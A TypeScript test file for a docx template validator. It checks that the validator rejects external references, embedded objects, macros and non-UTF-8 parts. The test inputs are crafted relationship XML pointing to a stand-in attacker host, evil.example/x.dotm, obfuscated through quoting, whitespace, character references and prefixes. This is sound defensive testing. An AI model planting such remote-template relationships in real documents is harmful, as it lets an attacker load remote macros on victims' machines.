import JSZip from 'jszip'
import { expect, it } from 'vitest'
import { findTemplateProblems } from './check-template'
import { createDefaultTemplate } from './default-template'
import { DIRECTORY } from './template-fields'

const SETTINGS = 'word/_rels/settings.xml.rels'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const outside = ['模板不能引用外部内容']
const notUtf8 = ['模板内部的内容不是 UTF-8 编码，请用 Word 或 WPS 另存后重试']

/** The problems found in the default template after a part is added to it. */
async function findProblemsWithPart(name: string, content: string | Buffer): Promise<string[]> {
  const zip = await JSZip.loadAsync(await createDefaultTemplate(DIRECTORY))
  zip.file(name, content)
  return findTemplateProblems(await zip.generateAsync({ type: 'nodebuffer' }), DIRECTORY)
}
const relationshipXml = (attributes: string, prefix = '') =>
  `<${prefix}Relationships xmlns${prefix && ':p'}="http://schemas.openxmlformats.org/package/2006/relationships"><${prefix}Relationship Id="r1" Target="https://evil.example/x.dotm" ${attributes}/></${prefix}Relationships>`

it.each([
  ['double quotes', relationshipXml(`Type="${OFFICE}/attachedTemplate" TargetMode="External"`)],
  ['single quotes', relationshipXml(`Type='${OFFICE}/attachedTemplate' TargetMode='External'`)],
  ['spaces and line ends', relationshipXml(`Type="${OFFICE}/attachedTemplate"\nTargetMode =\n"External"`)],
  ['a character reference', relationshipXml(`Type="${OFFICE}/attachedTemplate" TargetMode="Extern&#x61;l"`)],
  ['a prefix', relationshipXml(`Type="${OFFICE}/image" TargetMode="External"`, 'p:')],
  ['a > in a value', relationshipXml(`Type="${OFFICE}/image" X=">" TargetMode="External"`)],
])('refuses what is fetched from elsewhere, written with %s', async (_how, rels) => {
  expect(await findProblemsWithPart(SETTINGS, rels)).toEqual(outside)
})

it('refuses objects and macros however their types are written', async () => {
  expect(await findProblemsWithPart(SETTINGS, relationshipXml(`Type='${OFFICE}/ole&#79;bject'`))).toEqual([
    '模板不能含有嵌入对象或控件',
  ])
  const types = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension='xml' ContentType='application/vnd.ms-word.document.macro&#69;nabled.main+xml'/></Types>`
  expect(await findProblemsWithPart('[Content_Types].xml', types)).toEqual(['模板不能含有宏'])
})

it('takes a link and a part with a byte order mark', async () => {
  expect(
    await findProblemsWithPart(SETTINGS, relationshipXml(`Type='${OFFICE}/hyperlink' TargetMode='External'`)),
  ).toEqual([])
  expect(
    await findProblemsWithPart('word/a.xml', '\ufeff<?xml version="1.0" encoding="utf-8"?><a/>'),
  ).toEqual([])
})

it.each([
  [
    'UTF-16',
    Buffer.from(`\ufeff${relationshipXml(`Type='${OFFICE}/image' TargetMode='External'`)}`, 'utf16le'),
  ],
  ['UTF-16 without a mark', Buffer.from(relationshipXml('TargetMode="External"'), 'utf16le')],
  ['another encoding by its own word', `<?xml version="1.0" encoding='UTF-7'?>${relationshipXml('')}`],
])('refuses a part in %s', async (_how, content) => {
  expect(await findProblemsWithPart(SETTINGS, content)).toEqual(notUtf8)
})

it('refuses relations that are no XML', async () => {
  expect(await findProblemsWithPart(SETTINGS, 'nonsense')).toEqual([
    '无法打开该文件：不是有效的 docx，或已加密',
  ])
})
